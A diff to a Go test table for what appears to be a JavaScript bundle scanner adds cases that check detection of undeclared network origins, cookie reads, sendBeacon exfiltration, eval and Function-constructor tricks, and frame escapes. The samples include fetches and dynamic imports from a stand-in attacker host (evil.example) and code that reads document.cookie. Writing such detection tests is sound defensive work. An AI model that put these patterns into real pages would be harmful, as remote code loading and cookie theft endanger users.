@@ -315,6 +315,8 @@ var ruleCases = []ruleCase{
 	{name: "undeclared host path", src: "fetch('/metrics');", want: []string{"api.undeclared-endpoint"}, exact: true},
 	{name: "relative path out of the bundle", src: "fetch('../../api/v1/logs');", want: []string{"api.undeclared-endpoint"}, exact: true},
 	{name: "XMLHttpRequest undeclared", src: "const x = new XMLHttpRequest(); x.open('GET', '/api/v1/logs'); x.send();", want: []string{"api.undeclared-endpoint"}, exact: true},
+	{name: "URL object undeclared", src: "fetch(new URL('/api/v1/logs', location.origin)); fetch(new URL('https://evil.example/x'));",
+		want: []string{"api.undeclared-endpoint", "net.undeclared-origin"}, exact: true},
 	{name: "EventSource undeclared", src: "new EventSource('https://evil.example/stream');", want: []string{"net.undeclared-origin"}, exact: true},
 	{name: "dynamic import undeclared", src: "import('https://evil.example/m.js').then(m => m.run());", want: []string{"net.undeclared-origin"}, exact: true},
 	{name: "static import undeclared", file: "app.mjs", src: "import x from 'https://evil.example/m.js';\nx();", want: []string{"net.undeclared-origin"}, exact: true},
@@ -334,7 +336,10 @@ var ruleCases = []ruleCase{
 
 	// One case for every other rule.
 	{name: "eval alias", src: "const e = eval; e('1');", want: []string{"code.eval"}, exact: true},
-	{name: "Function constructor via constructor", src: "[].constructor.constructor('return this')();", want: []string{"code.function-constructor"}, exact: true},
+	{name: "global object alias", src: "var w = window, d = w.document;\nw.setTimeout(() => {}, 1);\nd.cookie;", want: []string{"exfil.cookie"}, exact: true},
+	{name: "global object alias to frame", src: "const p = window.parent;\np.location.href = '/';", want: []string{"frame.escape", "frame.reference"}, exact: true},
+	{name: "destructured global", src: "const { cookie } = document;\nconst { sendBeacon: b } = navigator;", want: []string{"exfil.cookie", "exfil.send-beacon"}, exact: true},
+	{name: "Function constructor via constructor", src: "[].constructor.constructor('alert(1)')();", want: []string{"code.function-constructor"}, exact: true},
 	{name: "string timer", src: "setTimeout('tick()', 100);", want: []string{"code.string-timer"}, exact: true},
 	{name: "document.write", src: "document.write('<p>hi</p>');", want: []string{"code.document-write"}, exact: true},
 	{name: "document.write external script", src: `document.write('<script src="https://evil.example/x.js"></scr' + 'ipt>');`,
@@ -415,6 +420,10 @@ var ruleCases = []ruleCase{
 	{name: "module script", file: "index.html", src: `<script type="module">import { a } from './a.js'; a();</script>`},
 	{name: "json script", file: "index.html", src: `<script type="application/json">{"not": "code("}</script>`},
 	{name: "script with integrity", file: "index.html", src: `<script src="https://allowed.example/lib.js" integrity="sha384-abc" crossorigin="anonymous"></script>`},
+	{name: "global object idiom", src: "var g = typeof self != 'undefined' ? self : Function('return this')(); var h = new Function('return this;')();"},
+	{name: "source map not loaded", src: "run();\n//# sourceMappingURL=/nonexistent/app.js.map\n"},
+	{name: "code in eval is scanned", src: "eval(\"fetch('https://evil.example/c')\");", want: []string{"code.eval", "net.undeclared-origin"}, exact: true},
+	{name: "code in Function is scanned", src: "new Function('a', 'return document.cookie + a');", want: []string{"code.function-constructor", "exfil.cookie"}, exact: true},
 	{name: "Function in instanceof", src: "if (x instanceof Function) { Function.prototype.call.call(x); }"},
 	{name: "relative paths", src: "fetch('data/items.json'); fetch('./config.json'); const workers = typeof Worker !== 'undefined';"},
 }
